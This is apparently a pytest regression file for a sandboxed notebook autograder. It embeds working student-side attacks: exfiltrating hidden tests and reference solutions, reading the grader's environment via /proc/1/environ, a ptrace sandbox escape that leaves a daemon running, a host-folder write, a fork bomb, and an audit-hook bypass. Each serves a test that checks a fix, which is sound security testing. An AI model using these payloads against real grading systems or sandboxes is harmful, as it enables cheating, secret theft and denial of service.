"""Attacks on the sandboxed grader found by a hostile-student session, each through the real
command line (`course import`, `course grade --workers 2`, `course feedback`), attackers first,
then an honest victim (the reference, 8/8) and a dishonest one (zeros, 0/8). Each worked when it
was found; each test checks the fix:

* ``leak_hidden``: an IPython ``pre_run_cell`` hook prints each cell's source *hex-encoded*; the
  hidden tests are now taken out of the notebook before it runs (``StripHiddenTests``);
* ``leak_lib``: the kernel saw the whole ``course_lib``, including ``hidden_cases.py`` and the
  spec's reference solutions; it now sees the student's package only;
* ``host_env``: ``/proc/1/environ`` inside the sandbox is bwrap's own process, which kept the
  grader's environment; bwrap now starts with an empty one;
* ``ipc_write``: the kernel's connection folder is a host folder, and ``chmod 0500`` does not
  stop its owner; a kernel that changes it is now stopped (and no file may exceed 64 MiB);
* ``survivor``: the kernel ptrace-attached PID 1 of its namespace and cleared its parent-death
  signal, so killing bwrap left the sandbox running; every process below bwrap is now killed;
* ``fork_bomb`` (the last cell): the kernel is stopped past ``GradingExecute.max_processes``.

And, without the command line: the re-check runner's audit hook looked up ``any`` in the runner's
module globals, which the student's code could replace to lift the hook's file restrictions.

Two more were found and are documented limits, not tested here (README, "What the boundary cannot
check"): inside the re-check the student's code can rewrite the runner and so hide an in-place
modification of an input or a floating-point warning; values cannot be forged.
"""

from __future__ import annotations

import os
import re
import signal
import textwrap
import time
import uuid
from pathlib import Path

import nbformat
import numpy as np
import pytest
from grading_class import A1, REF, ZEROS, _write, attack_course, cli, filled, insert_after

from course_lib.grading import pipeline as P
from course_lib.grading import recheck

pytestmark = pytest.mark.slow

MARKER = f"course-found-{uuid.uuid4().hex[:12]}"  #: in the command line of the survivor's daemon
CANARY = f"canary-{uuid.uuid4().hex}"  #: a value only the grader's environment holds
IN_KERNEL = "if 'ipykernel' in sys.modules:\n"


def _kernel_only(body: str) -> str:
    """A cell that runs ``body`` in the grading kernel only (not in the re-check), hiding failures."""
    return ("import sys\n" + IN_KERNEL + "    try:\n" + textwrap.indent(textwrap.dedent(body), "        ")
            + "\n    except BaseException as _e:\n        print('attack failed:', type(_e).__name__, _e)\n")


LEAK_HIDDEN = _kernel_only("""
    def _spy(info):
        print('HEX:' + info.raw_cell.encode().hex() + ':')
    get_ipython().events.register('pre_run_cell', _spy)
""")

LEAK_LIB = _kernel_only("""
    import course_lib.grading.hidden_cases as H
    import course_lib.grading.spec as S
    print('HEX:' + open(H.__file__).read().encode().hex() + ':')
    code = '\\n'.join(p.code for a in S.ASSIGNMENTS for p in a.parts)
    print('HEX:' + code.encode().hex() + ':')
""")

HOST_ENV = _kernel_only("""
    print('HEX:' + open('/proc/1/environ', 'rb').read().hex() + ':')
""")

IPC_WRITE = _kernel_only("""
    import os
    folder = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])
    os.chmod(folder, 0o700)
    with open(os.path.join(folder, 'fill.bin'), 'wb') as f:
        for _ in range(64):
            f.write(b'x' * (1 << 20))
    st = os.statvfs(folder)
    if os.path.getsize(os.path.join(folder, 'fill.bin')) == 64 << 20 and st.f_blocks * st.f_frsize > 1 << 30:
        print('HOSTWRITE: 64 MiB written into', folder, 'on a file system of', st.f_blocks * st.f_frsize >> 30, 'GiB')
""")

#: ptrace(PTRACE_ATTACH) PID 1, make it run prctl(PR_SET_PDEATHSIG, 0) through its own syscall
#: instruction, restore it and detach; then start a daemon (x86-64 only)
SURVIVOR = _kernel_only(f"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    class Regs(ctypes.Structure):
        _fields_ = [(n, ctypes.c_ulonglong) for n in (
            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
            "fs_base gs_base ds es fs gs").split()]
    if libc.ptrace(16, 1, None, None) == 0:
        os.waitpid(1, 0x40000000)
        saved = Regs()
        libc.ptrace(12, 1, None, ctypes.byref(saved))
        if libc.ptrace(1, 1, ctypes.c_void_p(saved.rip - 2), None) & 0xffff == 0x050f:
            regs = Regs.from_buffer_copy(saved)
            regs.rip, regs.rax, regs.rdi, regs.rsi, regs.orig_rax = saved.rip - 2, 157, 1, 0, 2**64 - 1
            libc.ptrace(13, 1, None, ctypes.byref(regs))
            libc.ptrace(9, 1, None, None)
            os.waitpid(1, 0x40000000)
            saved.rip -= 2
            saved.rax = saved.orig_rax
            libc.ptrace(13, 1, None, ctypes.byref(saved))
        libc.ptrace(17, 1, None, None)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-c', 'import time\\nwhile True: time.sleep(1)', {MARKER!r}])
        os._exit(0)
    os.wait()
""")

#: the last cell of ``a_fork_bomb``: children that exec a marked sleeper, as fast as it can fork
FORK_BOMB = _kernel_only(f"""
    import os
    for _ in range(2000):
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', {MARKER!r}])
""")

#: {student: (solutions, extra cells after part a, expected score, {grade_id: message substring})}
CASES = {
    "a_leak_hidden": ({}, [LEAK_HIDDEN], 8, {}),
    "a_leak_lib": ({}, [LEAK_LIB], 8, {}),
    "a_host_env": ({}, [HOST_ENV], 8, {}),
    # as root the folder belongs to nobody and the chmod fails; as another user the chmod works,
    # and the kernel is stopped in the attack's cell (every test after it is lost)
    "a_ipc_write": ({}, [IPC_WRITE], 8, {}) if os.geteuid() == 0 else
                   ({}, [IPC_WRITE], 0, {"test_sigmoid_values": "changed its connection folder on the grading machine"}),
    "a_survivor": ({}, [SURVIVOR], 8, {}),
    # a fork bomb: the kernel is stopped once it runs more than GradingExecute.max_processes
    "a_fork_bomb": ({}, [], 8, {}),
    "z_honest": ({}, [], 8, {}),
    "z_dishonest": (dict(ZEROS), [], 0, {}),
}



def _marked() -> list[int]:
    found = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


def _end_sandboxes(pids: list[int]) -> None:
    """Kill what the survivor left: the PID namespace's init (a bwrap process) ends everything in it."""
    for pid in pids:
        target = pid
        try:
            parent = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            if Path(f"/proc/{parent}/cmdline").read_bytes().split(b"\0")[0].endswith(b"bwrap"):
                target = parent
        except (OSError, ValueError, IndexError):
            pass
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


def _cli(course: P.Course, *args: str):
    return cli(course, *args, env={"COURSE_ATTACK_CANARY": CANARY})


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = attack_course(tmp_path_factory.mktemp("found"))
    incoming = tmp_path_factory.mktemp("incoming")
    for student, (solutions, cells, _, _) in CASES.items():
        nb = filled(course, solutions)
        for source in reversed(cells):
            insert_after("part_a_solution", source)(nb)
        if student == "a_fork_bomb":
            nb.cells.append(nbformat.v4.new_code_cell(FORK_BOMB))
        _write(incoming / student, {f"{A1}.ipynb": nb})
    assert _cli(course, "import", A1, str(incoming)).returncode == 0
    proc = _cli(course, "grade", "--workers", "2", "--quiet")
    time.sleep(3)
    survivors = _marked()
    _end_sandboxes(survivors)
    feedback = _cli(course, "feedback")
    results = {r.student: r for r in P.load_results(course) if r.assignment == A1}
    yield course, proc, feedback, results, survivors
    _end_sandboxes(_marked())


def _decoded(course: P.Course, student: str) -> str:
    """Everything the student printed hex-encoded, in the autograded notebook and in the feedback."""
    nb = nbformat.read(course.autograded / student / A1 / f"{A1}.ipynb", as_version=4)
    text = "\n".join(str(o) for c in nb.cells for o in c.get("outputs", []))
    html = course.feedback_dir / student / A1 / f"{A1}.html"
    text += html.read_text() if html.exists() else ""
    return "\n".join(bytes.fromhex(h).decode("utf-8", "replace") for h in re.findall(r"HEX:([0-9a-f]+):", text))


def _printed(course: P.Course, student: str) -> str:
    nb = nbformat.read(course.autograded / student / A1 / f"{A1}.ipynb", as_version=4)
    return "\n".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_grading_finishes_and_scores_are_the_honest_ones(graded):
    _, proc, feedback, results, _ = graded
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert feedback.returncode == 0, feedback.stderr
    for student, (_, _, score, messages) in CASES.items():
        res = results[student]
        cells = {c.grade_id: c.message for c in res.cells}
        assert (res.status, res.score) == ("graded", score), res.summary()
        for gid, text in messages.items():
            assert text in cells[gid], (student, gid, cells[gid])


def test_encoded_hidden_tests_do_not_reach_the_student(graded):
    course = graded[0]
    assert "hidden=True" not in _decoded(course, "a_leak_hidden")


def test_the_kernel_cannot_read_hidden_cases_or_reference_solutions(graded):
    leaked = _decoded(graded[0], "a_leak_lib")
    assert "TRADE_OFFS_ANSWER" not in leaked  # hidden_cases.py: left out of the student package
    assert "z = np.exp(-np.abs(x))" not in leaked  # the reference solutions: cut from the student's spec


def test_the_kernel_cannot_read_the_graders_environment(graded):
    assert CANARY not in _decoded(graded[0], "a_host_env")


@pytest.mark.skipif(os.geteuid() != 0, reason="as another user the kernel can chmod its folder back; "
                    "it is then stopped (see the score of a_ipc_write)")
def test_the_kernel_cannot_write_into_a_host_folder(graded):
    assert "HOSTWRITE" not in _printed(graded[0], "a_ipc_write")


def test_no_sandbox_survives_grading(graded):
    assert graded[4] == [], "a process started by a graded kernel outlived `course grade`"


def test_the_recheck_audit_hook_cannot_be_lifted_from_student_code():
    cell = ("import __main__, os\n__main__.any = lambda it: True\n"
            "raise ValueError('LISTED ' + repr(os.listdir('/')))\n")
    _, errors = recheck.run_isolated([cell, "def f(x):\n    return x\n"],
                                     [{"id": "a", "function": "f", "args": [np.zeros(3)], "kwargs": {}}], timeout=30)
    assert errors and "LISTED" not in errors[0][1], errors


# ---- predicting the re-check's random inputs ---------------------------------------------------

#: in the re-check only, every function raises with the first 26 values of any 64-value (random) input
LEAK_RANDOM = """import sys, base64
def _leak(x):
    x = np.asarray(x)
    if 'ipykernel' not in sys.modules and x.size == 64:
        raise ValueError('X' + base64.b64encode(np.asarray(x, dtype=np.float64).ravel()[:26].tobytes()).decode())
"""


def _leaking(course, comment: str):
    sols = {}
    for i, name in enumerate(["sigmoid", "sigmoid_grad", "tanh", "tanh_grad"]):
        gid = f"part_{'abcd'[i]}_solution"
        code = REF[A1][gid].replace('"""\n', '"""\n    _leak(x)\n', 1)
        sols[gid] = (LEAK_RANDOM + comment if i == 0 else "") + code
    return filled(course, sols)


def _leaked(course) -> dict[tuple[str, str], bytes]:
    res = {r.student: r for r in P.load_results(course) if r.assignment == A1}["predictor"]
    pattern = r"(\w+) raised ValueError: X([A-Za-z0-9+/=]+) on (random (?:[a-z0-9]+ )*inputs)"
    return {(fn, kind): b64 for c in res.cells for fn, b64, kind in re.findall(pattern, c.message)}


def test_a_resubmission_does_not_meet_the_random_inputs_its_feedback_revealed(tmp_path):
    course = attack_course(tmp_path)
    seen = []
    for attempt, comment in enumerate(["# first try\n", "# second try, after reading the feedback\n"]):
        _write(tmp_path / f"in{attempt}" / "predictor", {f"{A1}.ipynb": _leaking(course, comment)})
        assert _cli(course, "import", A1, str(tmp_path / f"in{attempt}")).returncode == 0
        assert _cli(course, "grade", "--workers", "1", "--quiet").returncode == 0
        seen.append(_leaked(course))
    repeated = {k for k in seen[0] if seen[1].get(k) == seen[0][k]}
    assert not repeated, f"the second grading drew the random inputs the first one revealed: {sorted(repeated)}"


def test_a_fork_bomb_stops_the_kernel(graded):
    nb = nbformat.read(graded[0].autograded / "a_fork_bomb" / A1 / f"{A1}.ipynb", as_version=4)
    said = "\n".join(o.get("evalue", "") for o in nb.cells[-1].get("outputs", []))
    assert "processes at once, so it was stopped" in said, said
